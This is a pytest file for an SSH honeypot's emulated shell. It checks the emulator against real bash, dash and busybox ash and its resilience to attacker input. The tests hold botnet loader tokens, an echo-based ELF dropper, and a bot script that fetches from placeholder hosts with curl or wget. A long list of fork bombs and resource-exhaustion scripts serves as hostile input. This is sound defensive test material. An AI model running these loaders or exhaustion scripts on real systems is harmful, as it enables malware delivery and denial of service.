# ruff: noqa: E501 (scripts and answers are compared as they are)
"""The shell's language against the real shells of this machine, bots' sequences, and hostile scripts."""

from __future__ import annotations

import gc
import os
import shutil
import subprocess
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import paramiko
import pytest
from clients import BySsh, persona_of

from decnet.decoys.events import Recorder, Session
from decnet.decoys.host.node import Node
from decnet.decoys.host.world import World
from decnet.decoys.persona import Persona
from decnet.decoys.shell.at_once import run_at_once
from decnet.decoys.shell.dialect import ASH, BASH, DASH
from decnet.decoys.shell.engine import MOST_TASKS, Engine
from decnet.decoys.shell.evaluator import Evaluator
from decnet.decoys.shell.state import Shell

SCRIPTS = Path(__file__).with_name("scripts")
SHELLS = {"bash": (BASH, ["bash"]), "dash": (DASH, ["dash"]), "ash": (ASH, ["busybox", "ash"])}
DIFFERENT = {
    "exec > f; echo hidden; exec > /dev/tty 2>/dev/null; true": "a test has no terminal",
    "rm -rf x; mkdir x; rmdir x; [ -d x ] || echo gone": "rmdir",
    "cat /dev/null; echo $?; cat nofile; echo $?": "Debian's cat, not BusyBox's",
    "echo both 2>&1 >/dev/null; ls nope 2>/dev/null; echo $?": "Debian's ls, not BusyBox's",
    "echo x 2>&9; echo $?": "dash closes the descriptor first",
    "x=(": "bash's status for one open quote",
    'declare -A m; m[k]=v; m[x y]=z; echo ${m[k]} "${m[x y]}" ${#m[@]}': "blanks in subscripts",
    "hash; enable -n echo; type -t echo": "a disabled builtin's kind",
    "printf -v x '%03d' 7; echo $x; printf '%q\\n' 'a b' \"it's\" ''; printf '%(%Y)T\\n' 0": "%q behind -v",
    "time -p true 2>/dev/null; echo $?": "times differ",
}
"""Scripts whose answers may differ, with the reason."""
MOST_AT_ONCE = 0.12
"""Seconds of the processor's time between two turns on a slow machine; about 0.01 are wanted."""


def persona(release: str = "debian-12") -> Persona:
    return Persona(
        "ssh", "web01", "linux", release, "", "ab" * 16, ((22, "tcp"),), {}, "192.0.2.7", "00:50:56:01:02:03"
    )  # fmt: skip


@pytest.fixture
def session() -> Iterator[Session]:
    into = os.open(os.devnull, os.O_WRONLY)
    yield Recorder(into).session("192.0.2.9", 4000)
    os.close(into)


def in_folder(shell: Shell, name: str) -> Shell:
    shell.dialect, shell.script = SHELLS[name][0], name
    shell.change("/tmp/w", Node(0o755, folder=True))
    shell.cwd = shell.variables["PWD"] = "/tmp/w"
    return shell


def ours(shell: Shell, script: str) -> tuple[str, str, int]:
    answer = run_at_once(shell, script)
    return answer.out, answer.error, answer.status


def real(name: str, script: str, folder: Path) -> tuple[str, str, int]:
    folder.mkdir()
    # A signal that a caller of the tests ignores would be one that the script cannot trap.
    done = subprocess.run(
        ["env", "--default-signal", *SHELLS[name][1], "-c", script], cwd=folder, capture_output=True, timeout=20, stdin=subprocess.DEVNULL,
        env={"PATH": "/usr/bin:/bin", "HOME": "/root", "LANG": "C.UTF-8"},
    )  # fmt: skip
    shutil.rmtree(folder)
    return (
        done.stdout.decode("utf-8", "surrogateescape"),
        done.stderr.decode("utf-8", "surrogateescape"),
        done.returncode,
    )


@pytest.mark.parametrize(
    ("name", "file"), [("bash", "posix"), ("bash", "bash"), ("dash", "posix"), ("ash", "posix")]
)
def test_a_script_gives_what_the_real_shell_gives(
    name: str, file: str, session: Session, tmp_path: Path
) -> None:
    if shutil.which(SHELLS[name][1][0]) is None:
        pytest.skip(f"no {name} to compare with")
    world = World(persona())
    scripts = (SCRIPTS / f"{file}.txt").read_text().rstrip("\n").split("\n%%\n")
    different = []
    for script in scripts:
        got = ours(in_folder(Shell(world, "root", session), name), script)
        expected = real(name, script, tmp_path / "w")
        if got != expected and script.rstrip("\n") not in DIFFERENT:
            different.append((script, got, expected))
    assert different == [] and len(scripts) > 90


@pytest.mark.parametrize("release", ["debian-12", "busybox-camera", "openwrt-21.02"])
def test_a_loader_hears_that_its_token_is_no_applet(release: str, session: Session) -> None:
    shell = Shell(World(persona(release)), "root", session)

    for token in ("ECCHI", "HAJI", "MIRAI"):
        answer = run_at_once(shell, f"/bin/busybox {token}")
        assert (answer.error, answer.status) == (f"{token}: applet not found\n", 127)


@pytest.mark.parametrize("release", ["debian-12", "busybox-camera"])
def test_an_echo_loader_writes_its_program_piece_by_piece(release: str, session: Session) -> None:
    shell = Shell(World(persona(release)), "root", session)
    for line in (
        "/bin/busybox echo -ne '\\x7f\\x45\\x4c\\x46' > /tmp/.drop && /bin/busybox echo -e '\\x6f\\x6b'",
        "/bin/busybox echo -ne '\\x01\\x00\\xff' >> /tmp/.drop; chmod 777 /tmp/.drop",
        "cd /tmp || cd /var/run || cd /mnt; >.t && cd /tmp; for d in a b; do echo $d >> .t; done",
    ):
        assert run_at_once(shell, line).error == ""

    node = shell.node("/tmp/.drop")
    assert node is not None and node.content == b"\x7fELF\x01\x00\xff" and node.mode == 0o777
    assert run_at_once(shell, "cat /tmp/.t").out == "a\nb\n"


def test_a_cron_bots_script_runs_to_its_end(session: Session) -> None:
    script = """#!/bin/bash
exec > /dev/null 2>&1
PATH=/bin:/sbin:/usr/bin:/usr/sbin; export PATH
t=$(echo "abc" | md5sum | awk '{print $1}')
x() { for h in a.example b.example; do
  (curl -fsSL -m1 http://$h/$1 || wget -q -O- http://$h/$1) && return 0
done; return 1; }
if ! ls /proc/$(cat /tmp/.X11-unix/01 | head -1)/io; then
  x init || y=failed
fi
cat > /tmp/.r <<EOF
$t $y
EOF
exec > /tmp/.done; echo finished
"""
    shell = Shell(World(persona()), "root", session)
    shell.put("/tmp/bot.sh", script.encode(), len(script), 0o755)

    answer = run_at_once(shell, "/tmp/bot.sh; cat /tmp/.done; cut -d' ' -f2 /tmp/.r")

    assert (answer.out, answer.status) == ("finished\nfailed\n", 0)


HOSTILE = (
    ":(){ :|:& };:", "f(){ f; }; f", "f(){ f|f; }; f", "while :; do :; done", "while :; do echo x; done",
    "echo {1..999999999}", "echo {1..300}{1..300}", 'x=a; while :; do x="${x//a/$x$x}"; done',
    "x=a; while :; do x=$x$x; done", "x=$(yes); echo ${#x}", "yes | sort", "eval " * 500 + "echo",
    "$(" * 60 + "echo" + ")" * 60, "echo $((" + "(" * 200 + "1" + ")" * 200 + "))", "echo $((9**9**9))",
    'x=$(printf "%060000d" 5); echo ${x//0*0*1/b}', "a=(); while :; do a+=(xxxxxxxx); done",
    "echo '. /tmp/s' > /tmp/s; . /tmp/s", "while :; do sleep 100 & done", "echo " + "a;" * 4000,
    "case " + "a" * 5000 + " in " + "*a" * 2000 + "b) echo;; esac", "IFS=0; x=$(printf %0200000d 1); set -- $x; echo $#",
    "while :; do echo a > /tmp/f$RANDOM; done", "yes | head -c 1000000 > /tmp/y; sed s/y/zz/g /tmp/y; awk '{n++} END {print n}' /tmp/y; rev /tmp/y",
    "shopt -s extglob; x=$(printf '%030000d' 1); [[ $x == *(*(0)|+(0))2 || $x == !(!(0*)*!(*2)!(0)) ]]", "set -- $(seq 70000); echo $#",
    "while :; do coproc cat; done", "f() { if a; then b; " + "elif a; then b; " * 400 + "fi; }; while :; do declare -f f; done",
    "while :; do echo x > >(cat); done", "while :; do exec {fd}>&1; done", "[[ " + "a" * 60 + " =~ ^(a+)+$b ]]",
)  # fmt: skip


@pytest.mark.parametrize("script", HOSTILE, ids=[f"{at}" for at in range(len(HOSTILE))])
def test_no_script_works_for_long_at_once(script: str, session: Session) -> None:
    shell, engine = Shell(World(persona()), "root", session), Engine(strict=True)
    engine.input.ended = True
    fds = {0: engine.input, 1: engine.screen(1), 2: engine.screen(2)}
    engine.main = engine.spawn(shell, Evaluator(engine, shell, fds).script(script), fds)
    longest = 0.0
    gc.freeze()
    for _ in range(60):
        began = time.process_time()
        engine.step(0.004)
        longest = max(longest, time.process_time() - began)
        engine.take_output()
        assert len(engine.tasks) <= MOST_TASKS
        wake = engine.next_wake()
        if engine.is_over or (wake is None and not engine.can_run):
            break
        if not engine.can_run and wake is not None:
            engine.skip(wake - engine.now())
    engine.close()
    gc.unfreeze()
    assert longest < MOST_AT_ONCE and not engine.tasks


def test_thirty_endless_loops_delay_no_one(decoy: Callable[..., Any]) -> None:
    server = decoy("ssh", **persona_of("ssh", "debian-12", settings={"credentials": "root:123456"}))
    prompt, loops = BySsh(server.port), []
    for _ in range(30):
        transport = paramiko.Transport(("127.0.0.1", server.port))
        transport.start_client(timeout=30)
        transport.auth_password("root", "123456")
        transport.open_session(timeout=30).exec_command("while :; do x=$((x+1)); done")
        loops.append(transport)

    times = sorted(prompt.answers() for _ in range(40))

    assert times[20] < 0.1 and times[-1] < 2.0
    assert server.peak() < 48.0
    for transport in loops:
        transport.close()
    prompt.close()


def test_lines_without_a_terminal_are_joined_to_commands(decoy: Callable[..., Any], ssh: Any) -> None:
    server = decoy("ssh", **persona_of("ssh", "debian-12", settings={"credentials": "root:123456"}))

    done = ssh(
        server.port, "-T", given="cat <<E\na $((1+1))\nE\nfor i in 1 2\ndo echo $i\ndone\nnope\nexit 4\n"
    )

    assert (done.stdout, done.returncode) == ("a 2\n1\n2\n", 4)
    assert done.stderr == "-bash: line 7: nope: command not found\n"


def test_a_prompt_goes_on_until_the_command_is_whole(decoy: Callable[..., Any], ssh: Any) -> None:
    server = decoy("ssh", **persona_of("ssh", "debian-12", settings={"credentials": "root:123456"}))

    typed = (
        "for i in 1 2\rdo echo $i\rdone\rcat <<E\rtext\rE\rec\tq\r(exit 130)\recho $?\rsh\rnope\rexit\rexit\r"
    )
    shown = ssh(server.port, "-tt", given=typed).stdout

    for part in (
        "> do echo $i\n> done\n1\n2\n",
        "> text\n> E\ntext\n",
        "echo q\nq\n",
        "130\n",
        "# nope\nsh: 1: nope: not found\n",
    ):
        assert part in shown
